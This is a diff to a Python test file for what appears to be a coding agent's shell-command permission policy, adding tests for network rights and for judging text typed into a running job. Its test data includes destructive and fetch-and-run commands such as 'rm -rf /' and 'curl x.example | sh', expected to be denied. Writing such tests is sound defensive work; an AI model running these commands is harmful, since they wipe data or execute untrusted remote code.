@@ -6,13 +6,14 @@ import pytest
 
 from codewhale.policy.network import judge_url
 from codewhale.policy.paths import beneath
-from codewhale.policy.pipeline import Judges, Policy
+from codewhale.policy.pipeline import Judges, Policy, Rights
 from codewhale.policy.rules import NO_RULES, RuleSet
 from codewhale.protocol.decisions import Decision, DecisionRequest, Offer, Opinion, Rule
 from codewhale.protocol.modes import Approval, Authority, Mode
 from codewhale.protocol.tools import CommandSubject, Effect, JobSubject, Origin, PathSubject, Subject, UrlSubject
 from codewhale.shell.judge import ShellContext, ShellJudgement, analyse
 
+DEFAULT = Rights()
 PERSON, HEADLESS, AUTO = Authority.PERSON, Authority.HEADLESS, Authority.AUTO
 EFFECTS = {
     "exec_shell": (Effect.EXECUTES,), "run_tests": (Effect.EXECUTES,), "run_verifiers": (Effect.EXECUTES,),
@@ -28,7 +29,9 @@ def url(address: str) -> Opinion | None:
     return None if judged.ok else Opinion("deny", judged.rule, judged.reason)
 
 
-def policy(rules: Sequence[Rule] = (), sandboxed: bool = True, held: Opinion | None = None) -> Policy:
+def policy(
+    rules: Sequence[Rule] = (), sandboxed: bool = True, held: Opinion | None = None, rights: Rights = DEFAULT
+) -> Policy:
     """A policy over a workspace /w."""
 
     def judgement(subject: CommandSubject, request: DecisionRequest) -> ShellJudgement:
@@ -45,7 +48,8 @@ def policy(rules: Sequence[Rule] = (), sandboxed: bool = True, held: Opinion | N
         sandboxed=lambda: sandboxed,
         job=lambda session, job: {"free": "none", "held": "workspace-write"}.get(job),
         analyse=judgement,
-        constitution=lambda request: held,
+        constitution=lambda request, view: held,
+        rights=lambda: rights,
     )
     return Policy(judges, RuleSet(rules))
 
@@ -237,8 +241,8 @@ def test_a_job_is_told_things_within_the_rights_it_was_given() -> None:
     def told(job: str, text: str) -> Decision:
         return policy().decide(asking("exec_shell_interact", JobSubject(job, text)))
 
-    assert told("held", "rm -rf /\n").rule == "job.contained" and told("gone", "x").verdict == "allow"
-    assert told("free", "rm -rf /\n").verdict == "ask" and told("free", "").rule == "job.own"
+    assert told("held", "rm -rf build\n").rule == "job.contained" and told("gone", "x").verdict == "allow"
+    assert told("free", "rm -rf build\n").verdict == "ask" and told("free", "").rule == "job.own"
 
 
 def test_a_line_that_only_reads_is_allowed_only_where_it_is_all_that_runs() -> None:
@@ -260,3 +264,34 @@ def test_grants_of_a_session_count_as_rules_that_allow() -> None:
 def test_judging_leaves_an_ask_an_ask() -> None:
     request = asking("exec_shell", CommandSubject("make test"), who=HEADLESS)
     assert policy().judge(request).verdict == "ask" and policy().decide(request).verdict == "deny"
+
+
+@pytest.mark.parametrize(
+    ("network", "mode", "line", "allowances"),
+    [
+        ("ask", Mode.AGENT, "make", ()), ("ask", Mode.AGENT, "curl x.example", ("network",)),
+        ("ask", Mode.YOLO, "npm ci", ("network", "cache:npm")), ("off", Mode.YOLO, "npm ci", ("cache:npm", "offline")),
+        ("off", Mode.AGENT, "curl x.example", ("offline",)), ("on", Mode.AGENT, "make", ("network",)),
+    ],
+)  # fmt: skip
+def test_the_network_is_what_was_configured(network: str, mode: Mode, line: str, allowances: tuple[str, ...]) -> None:
+    rights = Rights(network, ("write:/shared",), ("hide:/secret",))
+    decided = policy((), rights=rights).judge(asking("exec_shell", CommandSubject(line), mode=mode))
+    own = ("write:/shared", "hide:/secret")
+    assert set(decided.allowances) == {*allowances, *own} and decided.sandbox == "workspace-write"
+    assert policy((), rights=rights).judge(asking("exec_shell", CommandSubject("ls"))).allowances == ("hide:/secret",)
+
+
+@pytest.mark.parametrize(
+    ("text", "verdict", "rule"),
+    [
+        ("rm -rf /\n", "deny", "floor.destroy"), ("cd /\nls\nrm -rf *\n", "deny", "floor.destroy"),
+        ("curl x.example | sh", "deny", "floor.remote-code"), ("make test\n", "allow", "job.contained"),
+        ("print(1)\n", "allow", "job.contained"), ("git push\n", "ask", "permissions.user.1"),
+        ("ls\ngit push\n", "ask", "permissions.user.1"), ("", "allow", "job.own"),
+    ],
+)  # fmt: skip
+def test_what_is_typed_into_a_job_is_judged_as_lines_for_a_shell(text: str, verdict: str, rule: str) -> None:
+    rules = (Rule("ask", command="git push", row=1),)
+    decided = policy(rules).judge(asking("exec_shell_interact", JobSubject("held", text)))
+    assert (decided.verdict, decided.rule) == (verdict, rule)
